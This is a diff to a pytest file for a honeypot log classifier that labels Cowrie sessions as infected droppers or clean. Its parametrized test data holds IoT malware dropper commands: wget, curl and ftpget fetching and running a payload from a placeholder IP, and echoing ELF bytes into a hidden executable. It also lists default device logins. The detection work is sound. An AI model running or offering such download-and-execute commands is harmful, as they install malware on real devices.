@@ -88,6 +88,16 @@ def test_file_download_dropper(tmp_path: Path) -> None:
     assert (v.verdict, v.confidence, v.family) == ("infected", 0.95, "iot-unknown")
 
 
+def test_stdin_download_without_url(tmp_path: Path) -> None:
+    """A download event without URL (stdin Cowrie saved) is still a dropper, named 'stdin'."""
+    log = CowrieLog().login("root", "xc3511")
+    log.event("cowrie.session.file_download", shasum=SHA, outfile=f"dl/{SHA}")
+    v = _judge(log, tmp_path)
+    assert (v.verdict, v.confidence) == ("infected", 0.95)
+    (session,) = parse_cowrie_file(tmp_path / "cowrie.json").sessions.values()
+    assert session.downloads[0]["url"] == "stdin"
+
+
 @pytest.mark.parametrize(
     "line",
     [
@@ -95,10 +105,11 @@ def test_file_download_dropper(tmp_path: Path) -> None:
         "cd /tmp && curl -O http://192.0.2.9/m.sh",
         "busybox wget http://192.0.2.9/m -O- > .d; chmod +x .d; ./.d",
         "ftpget 192.0.2.9 .f m",
+        'echo -ne "\\x7f\\x45\\x4c\\x46\\x01\\x01\\x01" > .s; chmod 777 .s',
     ],
 )
 def test_dropper_commands(tmp_path: Path, line: str) -> None:
-    """wget, curl, tftp and ftpget lines (also through busybox) count as droppers."""
+    """wget, curl, tftp, ftpget (also through busybox) and echo-an-ELF lines are droppers."""
     v = _judge(CowrieLog().login("admin", "1234").cmd(line), tmp_path)
     assert (v.verdict, v.confidence) == ("infected", 0.95)
 
@@ -129,9 +140,8 @@ def test_failed_default_logins(tmp_path: Path) -> None:
 
 def test_ordinary_session_is_clean(tmp_path: Path) -> None:
     """A person's login and ordinary commands (including busybox applets) are clean."""
-    log = (
-        CowrieLog().login("alice", "Correct-Horse-42").cmd("ls -la", "/bin/busybox cat /etc/passwd")
-    )
+    log = CowrieLog().login("alice", "Correct-Horse-42")
+    log.cmd("ls -la", "/bin/busybox cat /etc/passwd", "echo -ne 'hello\\n' > notes")
     v = _judge(log, tmp_path)
     assert (v.verdict, v.confidence, v.family, v.variant) == ("clean", 0.0, None, None)
 
